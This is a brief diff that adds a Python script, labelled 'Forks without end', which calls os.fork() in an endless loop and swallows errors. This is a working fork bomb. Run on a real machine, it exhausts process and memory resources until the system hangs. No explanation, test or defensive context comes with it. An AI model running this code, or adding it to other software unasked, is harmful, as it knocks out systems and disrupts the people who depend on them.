@@ -1,0 +1,9 @@
+"""Forks without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
